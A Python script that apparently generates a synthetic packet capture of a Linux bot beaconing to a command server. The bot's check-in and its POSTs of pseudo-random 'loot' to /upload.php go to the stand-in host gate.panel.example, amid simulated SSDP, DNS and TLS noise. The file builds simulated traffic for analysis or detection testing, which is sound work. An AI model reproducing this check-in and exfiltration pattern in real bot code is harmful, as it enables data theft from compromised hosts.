"""A Linux bot that posts to its server over HTTP, amid SSDP and TLS noise."""

from wire.dns import Record, Resolver, Type
from wire.lan import SSDP_GROUP, Lan
from wire.packets import pseudo_random
from wire.story import MILLISECOND, SECOND, Story
from wire.tcp import TcpConversation
from wire.text import USER_AGENT, chunked, lines, request, response
from wire.tls import Secure, Version

C2_NAME, C2_IP = "gate.panel.example", "203.0.113.77"
AGENT = "User-Agent: ExampleBot/2.4"
FORM = "Content-Type: application/x-www-form-urlencoded"


def tell() -> Story:
    """Client 10.8.15.101, name server 10.8.15.1, command server 203.0.113.77."""
    story = Story("bot-http", "2024-08-15T14:03:10")
    lan = Lan(story, "10.8.15", 101, client_ttl=64)
    _noise(lan)
    dns = Resolver(story, lan.client, lan.gateway)
    _browsing(lan, dns)
    _bot(lan, dns)
    return story


def _noise(lan: Lan) -> None:
    story = lan.story
    lan.dhcp(0, "iot-camera")
    story.resolve_mac(40 * MILLISECOND, lan.client, lan.gateway)
    lan.join_groups(60 * MILLISECOND, SSDP_GROUP)
    lan.router_solicitation(80 * MILLISECOND)
    tv = lan.host(20)
    story.resolve_mac(900 * MILLISECOND, tv, lan.client)
    lan.ssdp_search(1 * SECOND, 4, answered_by=tv)
    lan.ssdp_notify(2300 * MILLISECOND, tv)
    lan.ssdp_search(31 * SECOND, 4)
    lan.ssdp_notify(33 * SECOND, tv)
    lan.mdns(5 * SECOND, lan.host(30), "printer")
    lan.ntp(6 * SECOND, lan.remote("192.0.2.123"), 0xEA69_1A00)
    lan.ping(7 * SECOND, lan.remote("192.0.2.1"), 2)


def _open(lan: Lan, at: int, ip: str, port: int, rtt: int) -> TcpConversation:
    server = lan.remote(ip)
    return TcpConversation(lan.story, lan.client, server, port, at, rtt=rtt, timestamps=True).open()


def _browsing(lan: Lan, dns: Resolver) -> None:
    """An update check over HTTP, TLS 1.2 and TLS 1.3 sessions, one with a hello of two segments."""
    alias = Record("time.microsoft.example.com", Type.CNAME, "time.cdn.example.net")
    done = dns.lookup(3 * SECOND, alias.name, alias, Record(alias.value, Type.A, "198.51.100.20"))
    probe = _open(lan, done + MILLISECOND, "198.51.100.20", 80, 22 * MILLISECOND)
    probe.client(request("GET", "/connecttest.txt", alias.name, b"", "Connection: close", AGENT)).server_ack()
    probe.server(response("200 OK", "text/plain", b"Example Connect Test", "Connection: close")).close(
        by_client=False
    )

    done = dns.address(4 * SECOND, "www.example.com", "198.51.100.30")
    dns.lookup(4 * SECOND + 400, "www.example.com", qtype=Type.AAAA, zone="example.com")
    first = Secure(_open(lan, done + MILLISECOND, "198.51.100.30", 443, 25 * MILLISECOND), "www.example.com")
    first.handshake().client(420).server(3100, 900).client(130).server(760).close()

    done = dns.address(9 * SECOND, "cdn.example.net", "198.51.100.44", "198.51.100.45")
    modern = _open(lan, done + MILLISECOND, "198.51.100.44", 443, 18 * MILLISECOND)
    session = Secure(modern, "cdn.example.net", Version.TLS13, large_hello=True)
    session.handshake().client(310).server(2800).client(92)
    modern.reset(by_client=False)


def _bot(lan: Lan, dns: Resolver) -> None:
    """Look the server up, check in on one connection, then post loot on further ones."""
    done = dns.address(12 * SECOND, C2_NAME, C2_IP)
    check_in = _open(lan, done + MILLISECOND, C2_IP, 80, 95 * MILLISECOND)
    check_in.client(request("GET", "/gate.php?id=0042&v=2.4", C2_NAME, b"", AGENT)).server_ack().pause(
        30 * MILLISECOND
    )
    check_in.server(chunked("200 OK", "text/html", b"<html>task=", b"collect;interval=20", b"</html>\n"))
    check_in.client_ack().pause(SECOND)
    check_in.client(_post("/gate.php", b"id=0042&status=ready")).server(
        response("200 OK", "text/html", b"ok\n")
    )
    check_in.client_ack().pause(5 * SECOND).close(by_client=False)

    for number, size in enumerate((600, 2400, 5200)):
        post = _open(lan, (20 + 9 * number) * SECOND, C2_IP, 80, 95 * MILLISECOND)
        loot = pseudo_random(f"loot/{number}", size // 2).hex().encode()
        post.client(_post("/upload.php", b"id=0042&data=" + loot)).server_ack()
        post.pause(40 * MILLISECOND).server(response("200 OK", "text/html", b"stored\n")).close()

    split = _open(lan, 48 * SECOND, C2_IP, 8080, 95 * MILLISECOND)
    head, body = _post("/gate.php", b"id=0042&status=done").split(b"\r\n\r\n")
    split.client(head + b"\r\n\r\n", body).server_ack()
    split.server(response("404 Not Found", "text/html", b"<h1>gone</h1>\n")).close()
    odd = _open(lan, 52 * SECOND, C2_IP, 80, 95 * MILLISECOND)
    odd.client(lines("GET / HTTP/1.0", f"User-Agent: {USER_AGENT}", "")).server_ack()
    odd.server(response("301 Moved Permanently", "", b"", "Location: https://www.example.com/"))
    odd.close(by_client=False)


def _post(target: str, body: bytes) -> bytes:
    return request("POST", target, C2_NAME, body, AGENT, FORM)
